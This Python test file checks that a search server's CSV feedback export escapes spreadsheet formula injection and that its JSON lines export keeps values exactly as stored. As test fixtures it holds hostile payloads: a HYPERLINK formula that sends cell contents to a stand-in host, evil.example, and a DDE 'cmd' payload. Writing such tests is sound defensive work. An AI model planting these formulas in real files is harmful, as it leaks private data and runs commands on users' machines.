"""B7. The feedback export cannot run as a spreadsheet formula, and stays raw where no sheet reads it.

``ai-search feedback export --format csv`` is what an admin opens in Excel, LibreOffice or Google
Sheets. A rater's reason, a question, a follow-up search, the answer itself, the provider and the
model name are all text someone else chose, and a cell starting with ``= + - @``, a tab or a carriage
return runs as a formula there (OWASP, "CSV Injection"): a rater can plant
``=HYPERLINK("https://evil.example/?leak="&G2&E3,"Details")`` beside answer texts drawn from private
rooms. Each such cell must come out with a leading ``'``; a cell starting otherwise, and every value
of the JSON lines export, must come out exactly as stored.

Two tables: through the real command on a real store, every column a person can write into times
every trigger; and the row writer alone, every column of the export (ids and times too, which no
person writes) times every trigger, beside values that must stay untouched.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from ai_search_server.answers import export
from ai_search_server.answers.export import EXPORT_FIELDS
from ai_search_server.cli import main
from ai_search_server.store.base import Store
from ai_search_server.store.records import AnswerSourceRecord, StoredAnswer
from tests.server.conftest import Workspace

from .conftest import Figure

# The review's payload.
LEAK = 'HYPERLINK("https://evil.example/?leak="&G2&E3,"Details")'
# A formula behind each trigger, as an attacker writes it (a tab or CR before `=`: what Excel looks past).
PAYLOADS = {
    "=": f"={LEAK}",
    "+": f"+{LEAK}",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": f"@SUM(1+1)*{LEAK}",
    "\t": f"\t={LEAK}",
    "\r": f"\r={LEAK}",
}
# The columns whose text a person (a rater, an asker) or the server's configuration chooses.
WRITABLE_COLUMNS = ("reason", "query", "searched", "answer", "provider", "model")
TRIGGER_IDS = {"=": "equals", "+": "plus", "-": "minus", "@": "at", "\t": "tab", "\r": "cr"}
# Values no spreadsheet reads as a formula: kept byte for byte.
UNTOUCHED = ("5-3", "a=b", "alice@example.com", "", " =1+1", "'=already text", "ok\n=on a later line")


def _export(data_dir: Path, database_url: str, fmt: str, capsys: pytest.CaptureFixture[str]) -> str:
    argv = ["feedback", "export", "--format", fmt, "--data", str(data_dir)]
    assert main([*argv, *(["--database", database_url] if database_url else [])]) == 0
    return capsys.readouterr().out


def _answer(ws: Workspace, answer_id: str, text: str) -> StoredAnswer:
    return StoredAnswer(
        id=answer_id,
        user_id=ws["bob"].user.id,
        query=text,
        searched=text,
        answer=text,
        sources=(AnswerSourceRecord(1, ws.messages["secret-5"].id, ws.rooms["secret"].id),),
        provider={"name": text, "model": text},
        created_at=datetime(2026, 11, 30, 12, 0, tzinfo=UTC),
    )


@pytest.mark.requirement("B7")
@pytest.mark.parametrize("payload", [pytest.param(PAYLOADS[t], id=i) for t, i in TRIGGER_IDS.items()])
def test_no_cell_a_person_writes_runs_as_a_formula(
    store: Store,
    workspace: Workspace,
    data_dir: Path,
    database_url: str,
    capsys: pytest.CaptureFixture[str],
    figure: Figure,
    payload: str,
) -> None:
    store.save_answer(_answer(workspace, "a-hostile", payload))
    # The store keeps a reason without leading blanks: a rater's `\t=...` arrives as `=...`.
    store.rate_answer("a-hostile", workspace["alice"].user.id, "down", payload)
    reason = store.feedback_since(None)[0][0].reason

    rows = list(csv.DictReader(io.StringIO(_export(data_dir, database_url, "csv", capsys), newline="")))
    assert len(rows) == 1
    stored = {**dict.fromkeys(WRITABLE_COLUMNS, payload), "reason": reason}
    wrong = {
        column: rows[0][column] for column in WRITABLE_COLUMNS if rows[0][column] != "'" + stored[column]
    }
    assert wrong == {}, f"cells a spreadsheet would run: {wrong}"

    lines = [json.loads(line) for line in _export(data_dir, database_url, "jsonl", capsys).splitlines()]
    raw = {column: lines[0][column] for column in WRITABLE_COLUMNS}
    assert raw == stored, "the JSON lines keep every value as stored"
    figure(
        tried=len(WRITABLE_COLUMNS),
        failed=len(wrong),
        payload=repr(payload[:12]),
        cells_neutralised=len(WRITABLE_COLUMNS) - len(wrong),
        jsonl_values_raw=len(raw),
    )


def _record(**changes: Any) -> dict[str, Any]:
    record: dict[str, Any] = {name: f"plain {name}" for name in EXPORT_FIELDS}
    return {**record, "searched": None, "sources": ["m1", "m2"], **changes}


@pytest.mark.requirement("B7")
@pytest.mark.parametrize("column", EXPORT_FIELDS)
def test_every_column_of_the_csv_is_neutralised_and_nothing_else_changes(column: str, figure: Figure) -> None:
    """Each trigger as the first character of the column's value gets a ``'``; values that start
    otherwise come out unchanged; the other columns of the row are untouched either way. A column
    that is a list (``sources``) is checked on its first item, the one that starts the cell."""
    wrapped = (lambda v: [v, "m2"]) if column == "sources" else (lambda v: v)
    joined = (lambda v: f"{v} m2") if column == "sources" else (lambda v: v)
    neutralised = []
    for trigger in export.FORMULA_TRIGGERS:
        value = PAYLOADS[trigger]
        row = export.csv_row(_record(**{column: wrapped(value)}))
        neutralised.append(row[column] == "'" + joined(value))
        others = {name: cell for name, cell in row.items() if name != column}
        assert others == {name: cell for name, cell in export.csv_row(_record()).items() if name != column}
    kept = []
    for value in UNTOUCHED:
        if column == "sources" and not value:
            continue  # no source is an empty list, checked with the others
        kept.append(export.csv_row(_record(**{column: wrapped(value)}))[column] == joined(value))
    assert all(neutralised) and all(kept)
    figure(
        tried=len(neutralised) + len(kept),
        failed=neutralised.count(False) + kept.count(False),
        column=column,
        triggers_neutralised=f"{sum(neutralised)}/{len(export.FORMULA_TRIGGERS)}",
        plain_values_untouched=f"{sum(kept)}/{len(kept)}",
    )


def test_the_triggers_are_owasps() -> None:
    """OWASP's list (``= + - @``, tab, carriage return), and ``-5`` is text here: the export has no
    number column, and a leading ``-`` starts formulas (``-2+3+cmd|' /C calc'!A0``) as well as numbers."""
    assert set(export.FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    assert export.csv_row(_record(reason="-5"))["reason"] == "'-5"
